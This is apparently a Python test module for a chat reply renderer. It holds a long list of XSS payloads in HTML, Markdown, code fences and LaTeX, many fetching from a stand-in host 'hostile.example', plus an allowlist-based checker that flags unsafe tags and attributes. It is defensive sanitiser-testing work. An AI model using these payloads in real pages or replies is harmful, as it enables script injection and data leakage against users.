"""Replies that try to make a browser run or fetch something, and what no rendering of them may hold."""

from html.parser import HTMLParser

OUTSIDE = "hostile.example"

HOSTILE = [
    # Elements and attributes
    f"<script>fetch('https://{OUTSIDE}/a')</script>",
    f"<script src=https://{OUTSIDE}/a.js></script>",
    f"<img src=https://{OUTSIDE}/a.png onerror=alert(1)>",
    f"<IMG SRC='//{OUTSIDE}/a.png'>",
    f"<picture><source srcset=https://{OUTSIDE}/a.png></picture>",
    f"<video poster=https://{OUTSIDE}/a.png autoplay></video>",
    f"<audio src=https://{OUTSIDE}/a.ogg autoplay>",
    f"<iframe src=https://{OUTSIDE}/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    f"<object data=https://{OUTSIDE}/a></object>",
    f"<embed src=https://{OUTSIDE}/a>",
    f"<link rel=stylesheet href=https://{OUTSIDE}/a.css>",
    f"<link rel=preconnect href=https://{OUTSIDE}/>",
    f"<style>@import 'https://{OUTSIDE}/a.css'</style>",
    f"<p style='background:url(https://{OUTSIDE}/a.png)'>styled",
    f"<body background=https://{OUTSIDE}/a.png>",
    f"<meta http-equiv=refresh content='0;url=https://{OUTSIDE}/'>",
    f"<base href=https://{OUTSIDE}/>",
    f"<form action=https://{OUTSIDE}/><button>Press</button></form>",
    f"<input type=image src=https://{OUTSIDE}/a.png autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<svg onload=alert(1)>",
    f"<svg><image href=https://{OUTSIDE}/a.png /></svg>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><use href='https://{OUTSIDE}/a.svg#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    # Links and images of Markdown
    f"![seen](https://{OUTSIDE}/a.png)",
    f"![seen][where]\n\n[where]: https://{OUTSIDE}/a.png",
    f"[![seen](https://{OUTSIDE}/a.png)](https://{OUTSIDE}/)",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\tscript:alert(1))",
    "[press](&#106;avascript:alert(1))",
    "[press](javascript&colon;alert(1))",
    "[press](\\x6aavascript:alert(1))",
    "[press]( javascript:alert(1) )",
    "[press](vbscript:msgbox(1))",
    "[press](data:text/html,<script>alert(1)</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](file:///etc/passwd)",
    f"[press](//{OUTSIDE}/a)",
    "[press](/accounts/logout/)",
    "[press](?delete=all)",
    "[press](https://example.org \"onmouseover='alert(1)'\")",
    "[press](https://example.org '\"><img src=x onerror=alert(1)>')",
    "[press][where]\n\n[where]: javascript:alert(1)",
    "[where]: javascript:alert(1) 'title'\n\n[where]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    # What ends up in attributes of ours
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "```' autofocus onfocus='alert(1)\nx\n```",
    "```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "~~~svg\n<svg onload=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "1000000000. <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|:-|-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a<br onclick=alert(1)>b<br/><img src=x onerror=alert(1)> |\n|-|",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "> <b onclick=alert(1)>quoted\n> ***",
    "[^1]: <img src=x onerror=alert(1)>",
    # Formulas
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\text{<script>alert(1)</script>}$$",
    "\\[ \\href{javascript:alert(1)}{x} \\]",
    '$\\class{x" onclick="alert(1)}{y}$',
    f"$\\style{{background:url(https://{OUTSIDE}/a.png)}}{{x}}$",
    f"$$\n\\includegraphics{{https://{OUTSIDE}/a.png}} = x\n$$",
    '$\\color{red" onclick="alert(1)}{x}$',
    "$x = \\mathrm{</math><script>alert(1)</script>}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    '$\\begin{array}{c" onclick="alert(1)}x^2\\end{array}$',
    "$\\unicode{60}script\\unicode{62} = \\verb|<svg onload=alert(1)>|$",
    # Signs that change how text reads
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\0<scr\0ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u2028<script>alert(1)</script>",
    "*<img src=x*onerror=alert(1)>*",
    "<im\ng src=x onerror=alert(1)>",
]

_PLAIN = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
_FORMULA = {
    "math",
    "mi",
    "mn",
    "mo",
    "mtext",
    "mspace",
    "mrow",
    "mfrac",
    "msqrt",
    "mroot",
    "msub",
    "msup",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mtable",
    "mtr",
    "mtd",
    "mstyle",
    "mpadded",
    "mphantom",
    "menclose",
    "mmultiscripts",
    "mprescripts",
}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _PLAIN | _FORMULA:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "srcset", "style", "action", "formaction", "data", "poster"}:
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and (tag != "a" or not (value or "").startswith(("http://", "https://"))):
                self.problems.append(f"<{tag} href={value}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}>")

    handle_pi = unknown_decl = handle_decl


def problems(html: str) -> list[str]:
    """What of this markup could run or fetch something, or is none of the elements that a reply may have."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.problems
